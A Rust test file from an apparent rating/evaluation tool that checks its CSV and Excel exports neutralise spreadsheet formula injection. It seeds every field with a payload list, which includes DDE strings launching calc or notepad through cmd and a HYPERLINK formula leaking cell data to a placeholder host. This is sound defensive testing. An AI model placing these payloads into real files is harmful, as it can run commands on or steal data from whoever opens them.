//! Exports a colleague opens in Excel or LibreOffice carry no live formula, whatever people
//! typed: every text cell of every CSV and of the workbook is checked, with payloads in every
//! field a person or a file can fill (model names, item ids, answers, the suite's title and
//! dimension names, rater names, comments), and numbers stay numbers.

#![cfg(not(target_arch = "wasm32"))]

use pingfen::app::export::{self, Context, Export};
use pingfen::core::i18n::Locale;
use pingfen::core::model::human::Rating;
use pingfen::core::model::session::Session;
use pingfen::core::results;
use pingfen::core::text::Segmenter;

/// What spreadsheets run (OWASP "CSV injection"), and what they run after blanks or in
/// full-width forms that some CJK locales fold.
const PAYLOADS: [&str; 12] = [
    "=HYPERLINK(\"http://x.test/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    " =1+1",
    "\n=1+1",
    "＝1+1",
    "=cmd|' /C notepad'!'A1'",
    "-@A1",
];

/// Whether a spreadsheet would evaluate `cell` when it opens the file.
fn live(cell: &str) -> bool {
    let start = cell.trim_start_matches([' ', '\t', '\r', '\n', '\u{feff}']);
    let starts = start.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) || cell.starts_with(['\t', '\r']);
    // A number (a negative score, say) is a number, not a formula.
    starts && start.parse::<f64>().is_err()
}

fn hostile_session() -> Session {
    let mut session = pingfen::core::io::sample::session().unwrap();
    let models = session.models();
    for (answer, n) in session.answers.iter_mut().zip(0..) {
        let payload = PAYLOADS[n % PAYLOADS.len()];
        answer.model = format!("{payload}{}", models.iter().position(|m| *m == answer.model).unwrap());
        answer.answer = format!("{payload} {}", answer.answer);
    }
    let old: Vec<String> = session.suite.items.iter().map(|i| i.id.clone()).collect();
    for (item, n) in session.suite.items.iter_mut().zip(0..) {
        item.id = format!("{}{}", PAYLOADS[n % PAYLOADS.len()], item.id);
    }
    for answer in &mut session.answers {
        let at = old.iter().position(|id| *id == answer.item).unwrap();
        answer.item = session.suite.items[at].id.clone();
    }
    session.suite.title.en = Some(PAYLOADS[0].into());
    for (dimension, n) in session.suite.dimensions.iter_mut().zip(1..) {
        dimension.name.en = Some(PAYLOADS[n % PAYLOADS.len()].into());
        dimension.name.zh = Some(PAYLOADS[n % PAYLOADS.len()].into());
    }
    let open = session.suite.items.iter().find(|i| i.kind == pingfen::core::model::suite::ItemKind::Open).unwrap().clone();
    let criterion = session.suite.criteria(&open)[0].0.id.clone();
    for (rater, n) in PAYLOADS.iter().zip(0..) {
        session.rate(Rating {
            rater: (*rater).into(),
            model: session.models()[n % 5].clone(),
            item: open.id.clone(),
            criterion: criterion.clone(),
            value: 3 + (n % 3) as i32,
            comment: Some(PAYLOADS[(n + 3) % PAYLOADS.len()].into()),
        });
    }
    assert!(session.problems("hostile").is_empty(), "{:?}", session.problems("hostile"));
    session
}

#[test]
fn no_export_holds_a_live_formula_and_numbers_stay_numbers() {
    let session = hostile_session();
    let results = results::compute(&session, &Segmenter::embedded().unwrap());
    let mut cells = 0;
    let mut numbers = 0;
    let mut guarded = 0;
    for locale in [Locale::En, Locale::ZhHans, Locale::ZhHant] {
        let context = Context { locale, created: "2026-12-03T00:00:00Z", rater: Some(PAYLOADS[2]), board: Default::default(), withheld: None };
        for kind in [Export::LeaderboardCsv, Export::ScoresLongCsv, Export::ItemScoresCsv] {
            let file = export::produce(kind, &session, Some(&results), &context).unwrap();
            let text = String::from_utf8(file.bytes).unwrap();
            let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
            for record in reader.records() {
                for cell in record.unwrap().iter() {
                    cells += 1;
                    numbers += usize::from(cell.parse::<f64>().is_ok());
                    assert!(!live(cell), "{}: a live cell {cell:?}", file.name);
                }
            }
        }
        let book = export::produce(Export::Workbook, &session, Some(&results), &context).unwrap();
        guarded += quote_prefixed(&book.bytes);
        let mut workbook: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(book.bytes)).unwrap();
        use calamine::Reader;
        for sheet in workbook.sheet_names() {
            let formulas = workbook.worksheet_formula(&sheet).unwrap();
            assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{sheet}: a formula in the workbook");
            let range = workbook.worksheet_range(&sheet).unwrap();
            for (_, _, value) in range.used_cells() {
                cells += 1;
                match value {
                    calamine::Data::Float(_) | calamine::Data::Int(_) => numbers += 1,
                    _ => {}
                }
            }
        }
    }
    assert!(cells > 10_000 && numbers > 3_000, "{cells} cells, {numbers} numbers");
    assert!(guarded > 300, "{guarded} workbook cells guarded");
}

/// Checks every text cell of an .xlsx that a spreadsheet could run: each is a string (never a
/// formula) with Excel's quote prefix, so it stays text when edited. Returns how many.
fn quote_prefixed(xlsx: &[u8]) -> usize {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
    let names: Vec<String> = zip.file_names().map(|name| name.unwrap().into_owned()).collect();
    let mut read = |name: &str| {
        let mut text = String::new();
        zip.by_name(name).unwrap().read_to_string(&mut text).unwrap();
        text
    };
    let unescape = |t: &str| t.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&apos;", "'").replace("&amp;", "&");
    let strings: Vec<String> = read("xl/sharedStrings.xml")
        .split("<si>")
        .skip(1)
        .map(|si| {
            let inner = si.split("</si>").next().unwrap();
            let t = inner.split_once('>').map_or("", |(_, rest)| rest);
            let t = t.rsplit_once("</t>").map_or(t, |(text, _)| text);
            unescape(t)
        })
        .collect();
    let styles = read("xl/styles.xml");
    let xfs = styles.split("<cellXfs").nth(1).unwrap().split("</cellXfs>").next().unwrap();
    let quoted: Vec<bool> = xfs.split("<xf ").skip(1).map(|xf| xf.split('>').next().unwrap().contains(r#"quotePrefix="1""#)).collect();
    let cell = regex_lite::Regex::new(r#"<c r="([A-Z]+[0-9]+)"(?: s="([0-9]+)")? t="s"><v>([0-9]+)</v>"#).unwrap();
    let mut count = 0;
    for name in names.iter().filter(|n| n.starts_with("xl/worksheets/sheet")) {
        let sheet = read(name);
        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{name}: a formula");
        for found in cell.captures_iter(&sheet) {
            let text = &strings[found[3].parse::<usize>().unwrap()];
            if live(text) {
                let style = found.get(2).map_or(0, |s| s.as_str().parse::<usize>().unwrap());
                assert!(quoted[style], "{name} {}: {text:?} without a quote prefix", &found[1]);
                count += 1;
            }
        }
    }
    count
}
